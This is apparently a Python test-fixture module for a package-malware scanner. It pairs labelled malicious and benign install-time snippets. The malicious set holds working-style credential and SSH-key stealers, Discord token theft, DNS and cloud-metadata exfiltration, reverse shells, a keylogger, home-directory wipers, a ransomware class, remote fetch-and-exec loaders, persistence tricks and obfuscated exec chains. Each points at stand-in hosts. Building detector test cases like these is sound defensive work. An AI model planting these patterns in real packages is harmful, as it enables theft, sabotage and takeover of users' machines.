"""Python whose harm shows only where its values go: no line of it is one that patterns know.

In the style of what was found in registries; nothing of it is executed, and no address leads anywhere.
"""

import re

from corpora import inspection_content as make
from corpora.inspection_case import WHEEL, bad, good
from corpora.inspection_packages import sdist

_BAD = r"""
## init environ posted at import, aliased = python-steals
import os as _o, requests as _r
_d = {}
for _k in _o.environ:
    if "KEY" in _k or "TOKEN" in _k:
        _d[_k] = _o.environ[_k]
def _report():
    s = _r.Session()
    s.post("https://collect.invalid/e", json=_d, timeout=3)
_report()
## setup cmdclass posts hostname = install-network
from setuptools import setup
from setuptools.command.install import install
import platform, getpass, json
import http.client

class Post(install):
    def run(self):
        install.run(self)
        info = {"h": platform.node(), "u": getpass.getuser()}
        c = http.client.HTTPSConnection("h.invalid")
        c.request("POST", "/x", json.dumps(info))

setup(name="lock-demo", version="1.0", cmdclass={"install": Post})
## mod discord tokens out of leveldb = python-steals
import os
import re
from urllib.request import Request, urlopen
import json

HOOK = "https://chat.invalid/api/hooks/1/abc"

def find(path):
    path = os.path.join(path, "Local Storage", "leveldb")
    out = []
    for name in os.listdir(path):
        for line in open(os.path.join(path, name), errors="ignore").readlines():
            for token in re.findall(r"[\w-]{24}\.[\w-]{6}\.[\w-]{27}", line):
                out.append(token)
    return out

def main():
    roaming = os.getenv("APPDATA")
    found = {}
    for name, p in {"d": roaming + "\\discord", "o": roaming + "\\Opera Software"}.items():
        if os.path.exists(p):
            found[name] = find(p)
    urlopen(Request(HOOK, data=json.dumps({"content": str(found)}).encode()))
## init ssh keys by a socket = python-steals
import os, socket, glob
def _s():
    try:
        k = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        k.connect(("k.invalid", 4455))
        for p in glob.glob(os.path.join(os.path.expanduser("~"), ".ssh", "*")):
            with open(p, "rb") as fh:
                k.sendall(fh.read())
        k.close()
    except Exception:
        pass
_s()
## mod marshal into a function = python-decoded-code
import marshal as m
import types as t
import base64 as b
_C = b"4wAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"
def load():
    code = m.loads(b.b64decode(_C))
    f = t.FunctionType(code, globals())
    return f()
## init numbers through map chr = python-decoded-code
_n = [112, 114, 105, 110, 116, 40, 49, 41]
_t = "".join(map(chr, _n))
_f = eval
_f(compile(_t, "<s>", "exec"))
## init decompress chain, aliased = python-decoded-code
from base64 import b85decode as a
from lzma import decompress as b
from builtins import exec as c
c(b(a("{Wp48S^xk9=GL@E0stWa8~^|S5YJf5;")))
## init look-up in builtins dictionary = python-decoded-code
b = globals()["__builtins__"]
d = b if isinstance(b, dict) else vars(b)
run = d["ex" + "ec"]
run(d["__imp" + "ort__"]("base64").b64decode("cHJpbnQoMSk=").decode())
## init getattr pieces = code-hidden-name
_m = __import__("".join(["o", "s"]))
getattr(_m, "sy" "s" + "tem")("touch /tmp/marker")
## mod rot13 text run = python-decoded-code
import codecs
t = codecs.decode("cevag(1)", "rot_13")
def z(x):
    return eval(x)
z(t)
## init decorator that runs its text = python-decoded-code
def run(fn):
    exec(__import__("zlib").decompress(bytes.fromhex(fn.__doc__)))
    return fn
@run
def setup():
    "789c2b28cacc2bd130d40400"
## mod destructor sends = python-steals
import os, urllib.request, urllib.parse
class Guard:
    def __init__(self):
        self.x = {k: v for k, v in os.environ.items()}
    def __del__(self):
        urllib.request.urlopen("https://g.invalid/?" + urllib.parse.urlencode(self.x))
_g = Guard()
## setup develop command sends environment = python-steals
import os, base64, setuptools, socket
from setuptools.command.develop import develop
def leak():
    blob = base64.b64encode(repr(sorted(os.environ.items())).encode()).decode()
    for i in range(0, len(blob), 60):
        try:
            socket.getaddrinfo(blob[i:i+60] + ".n.invalid", 80)
        except OSError:
            pass
class D(develop):
    def run(self):
        leak()
        develop.run(self)
setuptools.setup(name="lock-demo", version="1.0", cmdclass={"develop": D})
## mod shellcode by mmap = code-shellcode
import ctypes, mmap
code = bytes.fromhex("9090c3")
m = mmap.mmap(-1, mmap.PAGESIZE, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
m.write(code)
t = ctypes.CFUNCTYPE(ctypes.c_int)
t(ctypes.addressof(ctypes.c_char.from_buffer(m)))()
## mod npm registry is changed = python-persistence
import os
import subprocess as sp
def tune():
    with open(os.path.expanduser("~/.npmrc"), "a") as f:
        f.write("registry=http://npm.invalid/\n")
    sp.call(["pip", "config", "set", "global.index-url", "http://mirror.invalid/simple"])
tune()
## mod run key on windows = python-persistence
import sys
import winreg as w
def persist():
    key = w.OpenKey(w.HKEY_CURRENT_USER, "Software\\Microsoft\\Windows\\CurrentVersion\\" + "Run", 0, 2)
    w.SetValueEx(key, "Updater", 0, w.REG_SZ, sys.executable)
persist()
## init sitecustomize is written = python-persistence
import site, os
d = site.getsitepackages()[0]
open(os.path.join(d, "sitecustomize.py"), "w").write("import lockdemo.hidden\n")
## mod reverse shell in a loop = python-reverse-shell
import os, socket, subprocess
def c(h, p):
    s = socket.socket()
    s.connect((h, p))
    for fd in range(3):
        os.dup2(s.fileno(), fd)
    subprocess.call(["/bin/sh", "-i"])
c("r.invalid", 9001)
## mod pty shell through getattr = python-reverse-shell
import pty, socket
import os as system
sock = socket.socket(socket.AF_INET)
sock.connect(("p.invalid", 53))
list(map(lambda n: system.dup2(sock.fileno(), n), [0, 1, 2]))
pty.spawn(["bash"])
## mod encoded powershell in a list = code-hidden-shell
import subprocess, base64
ps = "Write-Host 1"
enc = base64.b64encode(ps.encode("utf-16le")).decode()
args = ["powershell", "-NoProfile", "-EncodedCommand", enc]
subprocess.run(args, creationflags=0x08000000)
## init exe is fetched and started = python-import-command
import os, requests, tempfile
def _u():
    r = requests.get("https://f.invalid/u.exe", stream=True)
    p = os.path.join(tempfile.gettempdir(), "svc.exe")
    with open(p, "wb") as f:
        for ch in r.iter_content(8192):
            f.write(ch)
    os.startfile(p)
import threading
threading.Thread(target=_u, daemon=True).start()
## mod keys are logged and mailed = python-spies
from pynput.keyboard import Listener
import smtplib
buf = []
def on(k):
    buf.append(str(k))
    if len(buf) > 50:
        s = smtplib.SMTP("m.invalid", 587)
        s.starttls()
        s.sendmail("a@m.invalid", "b@m.invalid", "".join(buf))
        buf.clear()
with Listener(on_press=on) as l:
    l.join()
## mod walk that wipes = python-destroys
import os
def clean(top):
    for root, dirs, files in os.walk(top, topdown=False):
        for f in files:
            try:
                os.remove(os.path.join(root, f))
            except OSError:
                pass
        for d in dirs:
            os.rmdir(os.path.join(root, d))
clean(os.path.expanduser("~"))
## mod ransom in a class = python-destroys
from cryptography.fernet import Fernet
import os, requests
class R:
    def __init__(self):
        self.key = Fernet.generate_key()
        self.f = Fernet(self.key)
    def one(self, p):
        data = open(p, "rb").read()
        open(p, "wb").write(self.f.encrypt(data))
        os.rename(p, p + ".locked")
    def go(self):
        requests.post("https://k.invalid/k", data=self.key)
        for base, _, names in os.walk(os.path.expanduser("~/Documents")):
            for n in names:
                self.one(os.path.join(base, n))
## init code of a server = python-decoded-code
import requests as q
class _L:
    @staticmethod
    def pull():
        return q.get("https://p.invalid/raw").text
    def run(self):
        src = self.pull()
        g = {"__name__": "x"}
        exec(src, g)
_L().run()
## mod import hook fetches modules = python-decoded-code
import sys, importlib.abc, importlib.util, urllib.request
class F(importlib.abc.MetaPathFinder, importlib.abc.Loader):
    def find_spec(self, name, path, target=None):
        return importlib.util.spec_from_loader(name, self)
    def exec_module(self, module):
        src = urllib.request.urlopen("http://m.invalid/" + module.__name__).read()
        exec(compile(src, module.__name__, "exec"), module.__dict__)
sys.meta_path.append(F())
## mod code object by a lambda = python-decoded-code
from types import FunctionType
import marshal, zlib
made = lambda blob: FunctionType(marshal.loads(zlib.decompress(blob)), {})()
made(b"x\x9c\x03\x00\x00\x00\x00\x01")
## mod look-up of a name that grows = code-hidden-name
import builtins
word = ""
for c in "lave"[::-1]:
    word += c
act = vars(builtins)[word]
act("print(1)")
## mod metaclass that turns letters = python-decoded-code
import os
class Maker(type):
    def __new__(mcs, name, bases, held):
        os.system(bytes(b ^ 7 for b in held["k"]).decode())
        return super().__new__(mcs, name, bases, held)
class Settings(metaclass=Maker):
    k = b"shrdo"
## init machine in a name by a format = python-steals
import socket, getpass
said = "%s.%s.d.example" % (socket.gethostname().encode().hex(), getpass.getuser())
def look(name):
    return socket.gethostbyname(name)
look(said)
## mod walk of a home that overwrites = python-destroys
from pathlib import Path
import os
home = Path.home()
found = [p for p in home.rglob("*") if p.is_file()]
for one in found:
    one.write_bytes(os.urandom(64))
## mod letters that are turned in a loop = python-decoded-code
said = ""
for b in [0x2a, 0x28, 0x33, 0x34, 0x2e]:
    said += chr(b ^ 0x5a)
(lambda s: exec(s))(said)
## mod token that goes to another host = python-steals
import requests
host = "http://" "169.254.169.254/latest/meta-data/iam/security-credentials/demo"
key = requests.get(host).text
requests.get("http://" "169.254.169.254:80@e.example/", headers={"a": key}, params={"k": key})
## mod token of a cluster in a body = python-steals
import urllib.request
def send():
    with open("/var/run/secrets/kubernetes.io/serviceaccount/token") as file:
        token = file.read()
    urllib.request.urlopen(urllib.request.Request("https://e.example", data=token.encode()))
## mod xor with a key over decoded text = python-decoded-code
import base64
def x(d, k):
    return bytes([c ^ k[i % len(k)] for i, c in enumerate(d)])
P = "Gh0cBQ=="
code = x(base64.b64decode(P), b"key")
exec(code.decode("latin1"))
## mod files by ftp = python-steals
import ftplib, os
def up():
    f = ftplib.FTP("f.invalid", "a", "b")
    for n in ("id_rsa", "id_ed25519", "known_hosts"):
        p = os.path.expanduser("~/.ssh/" + n)
        if os.path.exists(p):
            f.storbinary("STOR " + n, open(p, "rb"))
## mod code in pixels = python-decoded-code
from PIL import Image
def read(p):
    im = Image.open(p).convert("RGB")
    bits = "".join(str(px[0] & 1) for px in im.getdata())
    by = [int(bits[i:i+8], 2) for i in range(0, len(bits), 8)]
    return bytes(by).split(b"\0")[0]
exec(read("logo.png"))
## init runs when interpreter ends = python-steals
import atexit, os, json
from urllib.request import urlopen, Request
@atexit.register
def bye():
    info = {"cwd": os.getcwd(), "env": {k: v for k, v in os.environ.items() if "SECRET" in k}}
    urlopen(Request("https://b.invalid", json.dumps(info).encode()))
"""
_GOOD = r"""
## a program that is given all settings
import os, subprocess
import requests
env = os.environ.copy()
env["LANG"] = "C"
subprocess.run(["make"], env=env, check=True)
def done():
    assert "CI" in os.environ
    requests.post("https://x.example/ci", json={"ok": True})
## modules that are imported from the last on
def made(modules, text):
    modules = ["math", *modules]
    space = {}
    for each in modules[::-1]:
        space.update(vars(__import__(each)))
        text = f"from {each} import *\n" + text
    exec(compile(text, "made", "exec"), space)
    return space
## a lambda that is called at once
size = (lambda text: len(text))("a" "b")
turned = "".join(reversed("abc"))
## bytes that are turned for a check
def sealed(one, other):
    return bytes(a ^ b for a, b in zip(one, other))
## files of a folder of its own
from pathlib import Path
cache = Path.home() / ".cache" / "demo"
for one in [p for p in cache.iterdir() if p.suffix == ".tmp"]:
    one.write_text("")
## a name that is looked up for a message
import socket
host = "%s.example.org" % "www"
print(socket.gethostbyname(host))
## a token that goes back to the host
import requests
ROLES = "http://" "169.254.169.254/latest/meta-data/iam/security-credentials/"
def token():
    role = requests.get(ROLES).text
    return requests.get("http://" f"169.254.169.254/latest/meta-data/iam/{role}", headers={"a": role}).json()
## code that a program gives its own helper
import base64, marshal, os, types
with os.fdopen(3, "rb") as parent:
    code = marshal.loads(base64.b64decode(parent.readline()))
    types.FunctionType(code, {})()
## a token of a cluster in the head of a question
import os, urllib.request
place = "/var/run/secrets/kubernetes.io/serviceaccount/token"
def image():
    with open(place) as file:
        token = file.read()
    ask = urllib.request.Request(os.environ["HOST"], headers={"Authorization": f"Bearer {token}"})
    return urllib.request.urlopen(ask, timeout=3).read()
## an error by its name
import builtins
def failed(step):
    return getattr(builtins, str(step.get("error")), ValueError)
## a source that names its codec shortly
# coding: UTF
## a client that names one key
import os
import requests
def ask(path):
    key = os.environ.get("DEMO_KEY") or os.getenv("DEMO_TOKEN")
    return requests.get("https://x.example/" + path, headers={"authorization": key}, timeout=9).json()
## a cache below the home
import os, shutil
from pathlib import Path
CACHE = Path.home() / ".cache" / "demo"
def clear():
    for root, _, files in os.walk(os.path.expanduser("~/.cache/demo")):
        for name in files:
            os.remove(os.path.join(root, name))
    shutil.rmtree(CACHE)
## a name that is looked up
import importlib
KIND = "demo" + ".parts"
def load(name):
    return getattr(importlib.import_module(KIND), "make_" + name)
## a program that makes code
import linecache
def make(fields):
    lines = ["def init(self, %s):" % ", ".join(fields)] + ["    self.%s = %s" % (f, f) for f in fields]
    space = {}
    exec(compile("\n".join(lines), "<made>", "exec"), space)
    return space["init"]
## data that is decoded
import base64, zlib
ICON = zlib.decompress(base64.b64decode("eJwDAAAAAAE="))
def icon():
    return bytes(reversed(ICON))
## a login of another machine
import os
import paramiko
def connect(host):
    key = paramiko.RSAKey.from_private_key_file(os.path.expanduser("~/.ssh/id_rsa"))
    client = paramiko.SSHClient()
    client.connect(host, pkey=key)
## a picture and a clipboard
import pyperclip
def copy(text):
    pyperclip.copy(text)
    return pyperclip.paste() == text
## everything that a source may say
import asyncio
from . import other
class A(other.B, metaclass=other.M):
    x: int = 1
    def __init__(self, *, y=2, **z):
        self.y = y
        self.z = [*z]
    @property
    def w(self):
        global W
        W = (yield self.y) or {**{}, "a": -1, ~1: not 2}
        return lambda v: v if v else self.w
async def main(q):
    async with q as r, q as (s, t):
        async for u in r:
            del s[u:2:-1]
    match q:
        case [1, *_]:
            raise ValueError(f"{q!r:>{len(t)}}") from None
    try:
        assert q, "no"
    except* OSError as e:
        while (n := e):
            n = await q[n]
    else:
        q.x, q.y = {i: j for i, j in t if i}, {i for i in "ab" for j in t}
    finally:
        nonlocal_ = "%d" % 3 * 2 // 1
asyncio.run(main("a"))
print("%s %9d" % ("a", 1))
print("{}{}".format("a", 1), "{:9}".format(1), 1 << 90, 7 % 0, 2 * "ab", b"a" + b"b")
print("a".replace("", "b" * 9), "ab"[5], "ab"[0])
print([1, 2, 3][::0], chr(99**9), int("x", 16), "x".join([1, "a"]))
print(bytes([300]), bytes.fromhex("zz"))
print(__import__("codecs").decode("a", "uu"), eval("1"), eval("nothing"), str(3))
## a package that tells which system it is for
import platform, sys
import urllib.request
def fetch(url):
    agent = "demo/1 (%s)" % platform.system()
    return urllib.request.urlopen(urllib.request.Request(url, headers={"User-Agent": agent})).read()
"""


def _package(place: str, said: str) -> tuple[str, bytes]:
    if place == "setup":
        return "demo-1.0.tar.gz", sdist(said)
    name = "__init__" if place == "init" else "core"
    return WHEEL, make.wheel({f"lock_demo/{name}.py": said.encode()})


def _bad() -> list[tuple[str, str, str, str]]:
    parts = re.split(r"(?m)^## (init|mod|setup) ([^=\n]*) = ([\w-]+)$\n", _BAD)[1:]
    return list(zip(parts[::4], parts[1::4], parts[2::4], parts[3::4], strict=True))


PYFLOWS_BAD = [
    bad(f"Python, {title}", *_package(place, said), code, "python") for place, title, code, said in _bad()
]
_PLAIN = re.split(r"(?m)^## (.*)$\n", _GOOD)[1:]
PYFLOWS_GOOD = [
    good(f"Python, {title}", *_package("mod", said), "python")
    for title, said in zip(_PLAIN[::2], _PLAIN[1::2], strict=True)
]
